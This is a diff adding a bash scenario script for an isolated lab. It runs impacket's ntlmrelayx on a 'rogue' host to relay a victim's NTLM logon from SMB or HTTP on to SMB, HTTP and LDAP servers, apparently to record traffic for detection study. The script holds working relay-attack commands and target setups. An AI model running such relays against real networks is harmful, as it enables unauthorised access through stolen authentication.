@@ -1,0 +1,53 @@
+# shellcheck shell=bash
+# NTLM relayed between hosts of the laboratory: the victim talks to rogue, and rogue carries its tokens on to a server.
+# The same challenge shows on two connections.
+CLIENT='smbclient, impacket' SERVER='Samba smbd'
+FILTER='not arp and not icmp6 and not port 5353 and host 10.77.0.66'
+
+# relay TARGET LISTENER COMMAND...: ntlmrelayx on rogue, on port LISTENER (80 or 445), while the victim runs COMMAND.
+relay() {
+  local target=$1 port=$2 other=--no-smb-server pid
+  shift 2
+  [ "$port" = 80 ] || other=--no-http-server
+  local arguments=(-t "$target" "$other" --no-wcf-server --no-raw-server --no-winrm-server --no-rpc-server
+    --no-mssql-server --no-rdp-server -smb2support)
+  echo "# on rogue: ntlmrelayx.py ${arguments[*]}" >>"$COMMANDS"
+  # Its prompt ends the program when its input does.
+  (cd "$RUN/rogue" && sleep 14 | on rogue timeout -s INT 13 "$VENV/bin/python" -u "$VENV/bin/ntlmrelayx.py" \
+    "${arguments[@]}" >"$WORK/relay.log" 2>&1) &
+  pid=$!
+  for _ in {1..60}; do
+    ip netns exec lab-rogue ss -ltn "sport = :$port" | grep -q LISTEN && break
+    sleep 0.2
+  done
+  sleep 0.5
+  LIMIT=8 "$@"
+  wait "$pid"
+}
+VICTIM_SMB=(smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls)
+VICTIM_HTTP=(python "$LAB/clients/http_auth.py" http://rogue.lab.test/x 'LAB\alice' "$PASSWORD" NTLM ntlm)
+
+scenario 11-relay-smb-to-smb 'The victim opens a share on rogue, which carries the logon on to the file server.' \
+  relay smb://10.77.0.11 445 "${VICTIM_SMB[@]}"
+CLIENT='pyspnego, impacket'
+scenario 11-relay-http-to-smb 'The victim fetches a page from rogue, which carries the logon on to the file server.' \
+  relay smb://10.77.0.11 80 "${VICTIM_HTTP[@]}"
+SERVER='Apache httpd, mod_auth_gssapi, gss-ntlmssp'
+CLIENT='smbclient, impacket'
+scenario 11-relay-smb-to-http 'The victim opens a share on rogue, which carries the logon on to the web server.' \
+  relay http://10.77.0.13/ntlm/ 445 "${VICTIM_SMB[@]}"
+CLIENT='pyspnego, impacket'
+scenario 11-relay-http-to-http 'The victim fetches a page from rogue, which carries the logon on to the web server.' \
+  relay http://10.77.0.13/ntlm/ 80 "${VICTIM_HTTP[@]}"
+SERVER='Samba AD DC'
+scenario 11-relay-http-to-ldap-refused 'rogue wants to carry the logon on to LDAP by Sicily, which the server does not know: no relay takes place.' \
+  relay ldap://10.77.0.10 80 "${VICTIM_HTTP[@]}"
+unset FILTER
+
+# No relay, though it looks like one at first sight.
+CLIENT='smbclient' SERVER='Samba smbd'
+two_servers() {
+  smb //fs.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
+  smb //dc1.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
+}
+scenario 11-no-relay-two-servers 'One user logs on to two servers within a second: two logons, no relay.' two_servers
